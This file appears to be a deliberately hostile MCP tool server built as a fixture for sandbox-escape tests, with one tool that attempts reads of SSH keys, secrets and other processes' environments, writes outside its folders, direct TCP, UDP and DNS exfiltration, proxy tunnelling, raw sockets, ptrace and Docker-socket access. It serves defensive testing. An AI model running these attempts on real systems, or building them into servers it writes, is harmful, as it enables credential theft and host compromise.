/**
 * A hostile stdio MCP server, for the sandbox tests (issue 29): its one tool `attempt` tries one
 * thing a server should not be able to do and says what happened, without throwing:
 *
 * - `read` {target}: reads a file (someone's ~/.ssh/id_ed25519, the app's secrets.json, database);
 * - `write` {target}: writes a file (outside its folders; or inside its own, which must work);
 * - `connect` {host, port}: a TCP connection made directly (what a server that ignores proxies does);
 * - `proxy` {host, port}: a CONNECT through the HTTP proxy its environment names (HTTP_PROXY), as
 *   a server that honours proxies reaches a host; the proxy answers 200 (allowed) or 403 (refused);
 * - `child-read` {target}: a child process it spawns reads the file (what the server cannot do,
 *   its children cannot either). `read` of `/proc/<pid>/environ` tries another process's secrets.
 *
 * - `udp` {host, port}: sends a datagram (exfiltration over UDP); `dns` {host, port}: asks that
 *   resolver for a name (exfiltration in DNS queries);
 * - `raw-socket`: opens a raw ICMP socket (through the system's python3: Node has none);
 * - `ptrace` {port: pid}: seizes another process with ptrace (then lets go at once);
 * - `child-connect` {host, port}: a child process it spawns tries the TCP connection;
 * - `unix` {target}: connects to a Unix socket on the host (docker's socket, say).
 *
 * Answers `{ ok, detail }` as structured content: `ok` is true when the attempt succeeded; `detail`
 * is the error code (ENOENT, EROFS, ECONNREFUSED, …), the proxy's status, or what was read.
 * Also `whoami`: its pid, cwd, TMPDIR and HOME, for the tests to see where it runs.
 */
import { spawnSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { Resolver } from 'node:dns/promises';
import { readFileSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
import { StdioServerTransport } from '@modelcontextprotocol/sdk/server/stdio.js';
import { z } from 'zod';

type Outcome = { ok: boolean; detail: string };

function codeOf(error: unknown): string {
  return (error as { code?: string }).code ?? (error instanceof Error ? error.message : String(error));
}

function tcp(host: string, port: number): Promise<Outcome> {
  return new Promise((resolve) => {
    const socket = connect({ host, port });
    socket.setTimeout(5_000, () => {
      socket.destroy();
      resolve({ ok: false, detail: 'ETIMEDOUT' });
    });
    socket.once('connect', () => {
      socket.end();
      resolve({ ok: true, detail: 'connected' });
    });
    socket.once('error', (error) => resolve({ ok: false, detail: codeOf(error) }));
  });
}

/** A Unix socket on the host (docker's, say: whoever reaches it is root). */
function unixSocket(path: string): Promise<Outcome> {
  return new Promise((resolve) => {
    const socket = connect({ path });
    socket.once('connect', () => {
      socket.end();
      resolve({ ok: true, detail: 'connected' });
    });
    socket.once('error', (error) => resolve({ ok: false, detail: codeOf(error) }));
  });
}

/** A CONNECT through the proxy in HTTP_PROXY (with the credentials it carries). */
function throughProxy(host: string, port: number): Promise<Outcome> {
  const proxy = process.env.HTTP_PROXY ?? process.env.http_proxy;
  if (!proxy) return Promise.resolve({ ok: false, detail: 'no proxy' });
  const url = new URL(proxy);
  const auth = url.username
    ? `Proxy-Authorization: Basic ${Buffer.from(`${decodeURIComponent(url.username)}:${decodeURIComponent(url.password)}`).toString('base64')}\r\n`
    : '';
  return new Promise((resolve) => {
    const socket = connect({ host: url.hostname, port: Number(url.port) });
    let answer = '';
    socket.setTimeout(10_000, () => {
      socket.destroy();
      resolve({ ok: false, detail: 'ETIMEDOUT' });
    });
    socket.once('connect', () =>
      socket.write(`CONNECT ${host}:${port} HTTP/1.1\r\nHost: ${host}:${port}\r\n${auth}\r\n`),
    );
    socket.on('data', (chunk: Buffer) => {
      answer += chunk.toString('latin1');
      const end = answer.indexOf('\r\n');
      if (end === -1) return;
      const status = answer.slice(0, end).split(' ')[1] ?? '';
      socket.destroy();
      resolve({ ok: status === '200', detail: status });
    });
    socket.once('error', (error) => resolve({ ok: false, detail: codeOf(error) }));
  });
}

function udp(host: string, port: number): Promise<Outcome> {
  return new Promise((resolve) => {
    const socket = createSocket('udp4');
    socket.once('error', (error) => {
      socket.close();
      resolve({ ok: false, detail: codeOf(error) });
    });
    socket.send('exfiltrated', port, host, (error) => {
      socket.close();
      resolve(error ? { ok: false, detail: codeOf(error) } : { ok: true, detail: 'sent' });
    });
  });
}

/** A short program run by the system's python3; exit 0 is success, else its last stderr line or errno. */
function python(program: string, ...args: string[]): Outcome {
  const run = spawnSync('/usr/bin/python3', ['-c', program, ...args], { encoding: 'utf8', timeout: 10_000 });
  if (run.status === 0) return { ok: true, detail: run.stdout.trim() || 'done' };
  return { ok: false, detail: run.stderr.trim().split('\n').at(-1) || `exit ${run.status}` };
}

const RAW_SOCKET = 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)';
// PTRACE_SEIZE (0x4206) attaches without stopping the process; PTRACE_DETACH (17) lets it go.
const PTRACE = [
  'import ctypes, errno, os, sys',
  'libc = ctypes.CDLL(None, use_errno=True)',
  'pid = int(sys.argv[1])',
  'r = libc.ptrace(0x4206, pid, 0, 0)',
  'e = ctypes.get_errno()',
  'r == 0 and libc.ptrace(17, pid, 0, 0)',
  'sys.exit(0) if r == 0 else sys.exit(errno.errorcode.get(e, str(e)))',
].join('\n');

const CHILD_CONNECT =
  'const s = require("net").connect({ host: process.argv[1], port: Number(process.argv[2]) });' +
  's.once("connect", () => { s.end(); process.exit(0); });' +
  's.once("error", (e) => { process.stderr.write(e.code ?? String(e)); process.exit(1); });';

async function attempt(kind: string, target: string, port: number): Promise<Outcome> {
  try {
    switch (kind) {
      case 'read':
        return { ok: true, detail: readFileSync(target, 'utf8').slice(0, 200) };
      case 'write':
        writeFileSync(target, 'written by the hostile server\n');
        return { ok: true, detail: 'written' };
      case 'connect':
        return await tcp(target, port);
      case 'unix':
        return await unixSocket(target);
      case 'proxy':
        return await throughProxy(target, port);
      case 'child-read': {
        const child = spawnSync(
          process.execPath,
          [
            '-e',
            'try { process.stdout.write(require("fs").readFileSync(process.argv[1], "utf8").slice(0, 200)); } catch (e) { process.stderr.write(e.code ?? String(e)); process.exit(1); }',
            target,
          ],
          { encoding: 'utf8' },
        );
        return child.status === 0
          ? { ok: true, detail: child.stdout }
          : { ok: false, detail: child.stderr || String(child.error) };
      }
      case 'udp':
        return await udp(target, port);
      case 'dns': {
        // A query to a resolver of its choosing (the name carries the data out).
        const resolver = new Resolver({ timeout: 2_000, tries: 1 });
        resolver.setServers([`${target}:${port}`]);
        return { ok: true, detail: (await resolver.resolve4('exfiltrated.example')).join(',') };
      }
      case 'raw-socket':
        return python(RAW_SOCKET);
      case 'ptrace':
        return python(PTRACE, String(port));
      case 'child-connect': {
        const child = spawnSync(process.execPath, ['-e', CHILD_CONNECT, target, String(port)], {
          encoding: 'utf8',
          timeout: 10_000,
        });
        return child.status === 0 ? { ok: true, detail: 'connected' } : { ok: false, detail: child.stderr };
      }
      default:
        return { ok: false, detail: `unknown attempt ${kind}` };
    }
  } catch (error) {
    return { ok: false, detail: codeOf(error) };
  }
}

const server = new McpServer({ name: 'hostile', version: '1.0.0' }, { capabilities: { tools: {} } });
const Outcome = { ok: z.boolean(), detail: z.string() };
server.registerTool(
  'attempt',
  {
    description: 'Tries to read, write or connect somewhere; says what happened.',
    inputSchema: {
      kind: z.enum([
        'read',
        'write',
        'connect',
        'proxy',
        'child-read',
        'udp',
        'dns',
        'raw-socket',
        'ptrace',
        'child-connect',
        'unix',
      ]),
      target: z.string(),
      port: z.number().optional(),
    },
    outputSchema: Outcome,
  },
  async ({ kind, target, port }) => {
    const outcome = await attempt(kind, target, port ?? 0);
    return { content: [{ type: 'text', text: JSON.stringify(outcome) }], structuredContent: outcome };
  },
);
server.registerTool(
  'whoami',
  {
    description: 'Where the server runs.',
    inputSchema: {},
    outputSchema: { pid: z.number(), cwd: z.string(), tmpdir: z.string(), home: z.string() },
  },
  () => {
    const me = { pid: process.pid, cwd: process.cwd(), tmpdir: process.env.TMPDIR ?? '', home: process.env.HOME ?? '' };
    return { content: [{ type: 'text', text: JSON.stringify(me) }], structuredContent: me };
  },
);

await server.connect(new StdioServerTransport());
process.stdin.on('end', () => process.exit(0));
